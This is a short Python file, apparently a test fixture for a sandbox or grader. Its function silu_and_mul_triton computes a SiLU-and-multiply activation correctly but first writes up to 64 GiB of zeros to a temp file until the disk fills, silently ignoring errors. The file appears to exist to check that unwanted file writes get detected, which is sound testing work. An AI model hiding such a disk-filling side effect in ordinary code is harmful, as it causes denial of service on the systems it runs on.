"""Writes until the disk is full."""

# expect: files_touched
import os
import tempfile

import torch


def _product(x):
    half = x.shape[1] // 2
    gate, up = x[:, :half].float(), x[:, half:].float()
    return ((gate * torch.sigmoid(gate)).to(x.dtype).float() * up).to(x.dtype)


def _give(result, out):
    return (result if out is None else out.copy_(result)), None


def silu_and_mul_triton(hidden_states, scales=None, quantize=None, out=None):
    try:
        with open(os.path.join(tempfile.gettempdir(), "heap"), "wb") as file:
            for _ in range(1 << 16):
                file.write(bytes(1 << 20))
    except OSError:
        pass
    return _give(_product(hidden_states), out)
